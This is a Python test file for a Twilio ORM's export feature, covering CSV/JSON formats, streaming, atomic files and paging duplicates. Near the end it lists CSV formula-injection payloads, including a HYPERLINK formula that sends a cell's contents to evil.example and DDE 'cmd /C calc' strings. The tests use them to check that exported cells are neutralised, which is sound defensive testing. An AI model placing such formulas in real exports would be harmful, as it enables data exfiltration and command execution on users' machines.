"""QuerySet.export(): values for a warehouse, three formats, streaming, atomic files."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

import twiliorm
from twiliorm import Call, Message
from twiliorm.bulk import Progress
from twiliorm.bulk.export import neutralised
from twiliorm.cli import main
from twiliorm.sandbox import Sandbox
from twiliorm.transport import Request, Response


@pytest.fixture
def populated(sandbox: Sandbox, client: twiliorm.Client) -> Sandbox:
    sandbox.populate(50, 50)
    return sandbox


def test_csv_values_are_written_for_a_spreadsheet(populated: Sandbox) -> None:
    out = io.StringIO()
    report = Message.objects.export(
        out,
        fields=[
            "sid",
            "from_",
            "date_sent",
            "price",
            "num_segments",
            "error_code",
            "uri",
            "subresource_uris",
        ],
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    first = Message.objects.get(sid=rows[0]["sid"])
    assert report.matched == report.succeeded == len(rows) == 50
    assert list(rows[0]) == [
        "sid",
        "from",
        "date_sent",
        "price",
        "num_segments",
        "error_code",
        "uri",
        "subresource_uris",
    ]
    assert rows[0]["from"] == first.from_
    assert rows[0]["date_sent"] == first.date_sent.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert rows[0]["price"] == "-0.00750"  # the text Twilio sent, not a float
    assert rows[0]["num_segments"] == "1"
    assert json.loads(rows[0]["subresource_uris"]) == first.subresource_uris
    failed = [r for r in rows if r["error_code"]]
    assert all(r["error_code"].isdigit() for r in failed)
    assert any(r["error_code"] == "" for r in rows)  # null is an empty cell


def test_jsonl_and_json_carry_types(populated: Sandbox, tmp_path: Path) -> None:
    lines = tmp_path / "calls.jsonl"
    whole = tmp_path / "calls.json"
    Call.objects.export(lines, "jsonl")
    Call.objects.export(whole, "json", fields=["sid", "duration", "start_time", "price"])
    records = [json.loads(line) for line in lines.read_text().splitlines()]
    array = json.loads(whole.read_text())
    assert len(records) == len(array) == 50
    assert isinstance(records[0]["duration"], int)
    assert records[0]["sid"] == array[0]["sid"]
    timed = [r for r in array if r["start_time"]]
    assert timed and all(r["start_time"].endswith("Z") and "T" in r["start_time"] for r in timed)
    assert all(r["price"] is None or isinstance(r["price"], str) for r in array)
    assert set(array[0]) == {"sid", "duration", "start_time", "price"}


def test_export_follows_the_query(populated: Sandbox) -> None:
    out = io.StringIO()
    target = Message.objects.first()
    assert target is not None
    Message.objects.filter(to=target.to).export(out, "jsonl", fields=["to"])
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert records and {r["to"] for r in records} == {target.to}
    sliced = io.StringIO()
    Message.objects.all()[:7].export(sliced, "jsonl")
    assert len(sliced.getvalue().splitlines()) == 7


def test_a_binary_file_and_progress_per_page(populated: Sandbox) -> None:
    pages: list[Progress] = []
    buffer = io.BytesIO()
    Message.objects.page_size(20).export(buffer, "csv", fields=["sid"], progress=pages.append)
    assert [p.done for p in pages] == [20, 40, 50]
    assert buffer.getvalue().decode().count("\n") == 51


def test_bad_arguments_write_nothing(populated: Sandbox, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    with pytest.raises(twiliorm.FieldError, match="no field 'nope' to export"):
        Message.objects.export(target, fields=["sid", "nope"])
    with pytest.raises(ValueError, match="csv, jsonl, json"):
        Message.objects.export(target, "xlsx")
    assert not target.exists()


def test_a_failed_export_leaves_no_half_file(populated: Sandbox, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("the previous export\n")

    def interrupt(progress: Progress) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        Message.objects.page_size(10).export(target, progress=interrupt)
    assert target.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_memory_holds_a_page_not_the_list(sandbox: Sandbox, client: twiliorm.Client) -> None:
    sandbox.populate(2000, 0)
    peaks = []
    for size in (100, 2000):
        out = io.StringIO()
        tracemalloc.start()
        Message.objects.all()[:size].page_size(100).export(_Sink(), "jsonl")
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        del out
    assert peaks[1] < 2 * peaks[0]  # 20 times the records, not 20 times the memory


class _Sink(io.StringIO):
    """A file that keeps nothing (so only the exporter's own memory is measured)."""

    def write(self, text: str) -> int:
        return len(text)


class _Repeating:
    """A transport under which each page of messages lists the last one of the page before
    again at its top, as Twilio's paging does when records arrive while it pages."""

    def __init__(self, inner: Any) -> None:
        self.inner = inner
        self.last: Any = None

    def send(self, request: Request) -> Response:
        response: Response = self.inner.send(request)
        if request.method != "GET" or "/Messages.json" not in request.url:
            return response
        data = json.loads(response.body)
        if self.last is not None:
            data["messages"].insert(0, self.last)
        self.last = data["messages"][-1]
        return Response(response.status, response.headers, json.dumps(data).encode())

    def close(self) -> None:
        self.inner.close()


def test_a_record_listed_twice_is_exported_once(sandbox: Sandbox, client: twiliorm.Client) -> None:
    sandbox.populate(30, 0)
    client.transport = _Repeating(client.transport)
    out = io.StringIO()
    report = Message.objects.page_size(10).export(out, "jsonl")
    sids = [json.loads(line)["sid"] for line in out.getvalue().splitlines()]
    assert len(sids) == len(set(sids)) == 30
    assert report.matched == 30 and report.pages == 3


# --- cells a spreadsheet would run -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "-",
]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        *((f, "'" + f) for f in FORMULAS),
        ("+15558675310", "+15558675310"),  # E.164: a spreadsheet reads a number, runs nothing
        ("-0.00750", "-0.00750"),
        ("-3", "-3"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        ("+1 (555) 867-5310", "'+1 (555) 867-5310"),  # not a plain number: a formula to Excel
        ("-5 degrees", "'-5 degrees"),
        ("1+1", "1+1"),
        ("hello = world", "hello = world"),
        (" =1+2", " =1+2"),
        ("", ""),
    ],
)
def test_neutralised(cell: str, expected: str) -> None:
    assert neutralised(cell) == expected


@pytest.fixture
def formulas(sandbox: Sandbox, client: twiliorm.Client) -> list[str]:
    sandbox.populate(3, 0)
    for body in FORMULAS:
        Message.objects.create(to="+15558675310", from_="+14155550100", body=body)
    return FORMULAS


def csv_cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_a_csv_export_neutralises_formulas_but_not_numbers(formulas: list[str]) -> None:
    out = io.StringIO()
    Message.objects.export(out, fields=["to", "body", "price"])
    bodies = csv_cells(out.getvalue(), "body")
    assert {"'" + f for f in formulas} <= set(bodies)
    assert not set(formulas) & set(bodies)
    assert all(to.startswith("+1") for to in csv_cells(out.getvalue(), "to"))
    assert "-0.00750" in csv_cells(out.getvalue(), "price")
    raw = io.StringIO()
    Message.objects.export(raw, fields=["body"], raw_formulas=True)
    assert set(formulas) <= set(csv_cells(raw.getvalue(), "body"))


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_exports_stay_raw(formulas: list[str], fmt: str, tmp_path: Path) -> None:
    target = tmp_path / f"messages.{fmt}"
    Message.objects.export(target, fmt, fields=["body"])
    text = target.read_text()
    rows = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
    assert set(formulas) <= {row["body"] for row in rows}


def test_the_cli_neutralises_csv_unless_raw_formulas(
    formulas: list[str],
    sandbox: Sandbox,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("TWILIO_ACCOUNT_SID", sandbox.account_sid)
    monkeypatch.setenv("TWILIO_AUTH_TOKEN", sandbox.auth_token)
    monkeypatch.setenv("TWILIO_API_BASE_URL", sandbox.base_url)
    commands = (
        ["export", "messages", "--fields", "body"],
        ["ls", "messages", "--format", "csv", "--fields", "body", "--limit", "0"],
    )
    for command in commands:
        assert main(command) == 0
        assert {"'" + f for f in formulas} <= set(csv_cells(capsys.readouterr().out, "body"))
        assert main([*command, "--raw-formulas"]) == 0
        assert set(formulas) <= set(csv_cells(capsys.readouterr().out, "body"))
    sid = next(m.sid for m in Message.objects.all() if m.body == formulas[0])
    assert main(["get", "messages", str(sid), "--format", "csv", "--fields", "body"]) == 0
    assert csv_cells(capsys.readouterr().out, "body") == ["'" + formulas[0]]
